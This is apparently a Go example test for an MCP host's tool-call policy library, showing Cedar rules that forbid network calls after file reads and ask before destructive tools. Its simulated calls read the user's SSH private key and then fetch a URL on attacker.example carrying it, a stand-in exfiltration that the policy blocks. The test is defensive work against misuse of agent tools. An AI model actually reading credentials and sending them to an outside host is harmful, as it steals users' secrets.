package policy_test

import (
	"fmt"
	"log"
	"time"

	"github.com/etdi-dev/etdi/policy"
)

// An MCP host written in Go loads its policies once (LoadFiles for files
// on disk) and keeps one Session per connection. Before forwarding each
// tools/call it authorizes the call with the tool as the person approved
// it and the session so far; it forwards an allowed call and records it
// with Called, puts an asked one to the person, and refuses a forbidden
// one naming the policies that decided.
func Example() {
	set, err := policy.Parse(policy.Source{Name: "host.cedar", Text: []byte(`
@id("baseline")
permit (principal, action == Etdi::Action::"call", resource);

@id("no-net-after-files")
forbid (principal, action == Etdi::Action::"call", resource)
when { resource.scopes.contains("net:*") && context.sessionScopes.contains("files:read") };

@id("ask-destructive")
@ask("this tool may delete or overwrite data")
forbid (principal, action == Etdi::Action::"call", resource)
when { resource.signed && resource.annotations has destructiveHint && resource.annotations.destructiveHint };
`)})
	if err != nil {
		log.Fatal(err)
	}

	// The tools as approved (policy.ToolOfPin gives them from etdi's pins).
	readFile := policy.Tool{Server: "acme:files", Name: "read_file", Version: "1.0.0", Provider: "acme", Signed: true,
		Scopes: []string{"files:read"}, Annotations: policy.AnnotationsOf([]byte(`{"annotations":{"readOnlyHint":true}}`))}
	deleteFile := policy.Tool{Server: "acme:files", Name: "delete_file", Version: "1.0.0", Provider: "acme", Signed: true,
		Scopes: []string{"files:write"}, Annotations: policy.AnnotationsOf([]byte(`{"annotations":{"destructiveHint":true}}`))}
	fetch := policy.Tool{Server: "acme:web", Name: "fetch", Version: "2.1.0", Provider: "acme", Signed: true,
		Scopes: []string{"net:fetch"}}

	var session policy.Session
	now := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	call := func(tool policy.Tool, args string) {
		now = now.Add(time.Second)
		d := set.Authorize(policy.Request{
			Host:    "my-host",
			Tool:    tool,
			Context: session.Context(tool.Name, []byte(args), now),
		})
		fmt.Printf("%s: %s\n", tool.Name, d.Summary())
		switch d.Effect {
		case policy.Allow:
			session.Called(tool, now) // forward the call
		case policy.Ask:
			fmt.Printf("  ask the person: %s\n%s\n", d.Reasons[0], policy.SummarizeArguments([]byte(args)))
		}
	}
	call(fetch, `{"url":"https://example.com"}`)
	call(readFile, `{"path":"/home/me/.ssh/id_ed25519"}`)
	call(fetch, `{"url":"https://attacker.example/?k=..."}`)
	call(deleteFile, `{"path":"/home/me/notes.txt","recursive":false}`)
	// Output:
	// fetch: allow
	// read_file: allow
	// fetch: forbid (no-net-after-files)
	// delete_file: ask (ask-destructive)
	//   ask the person: this tool may delete or overwrite data
	// path: "/home/me/notes.txt"
	// recursive: false
}
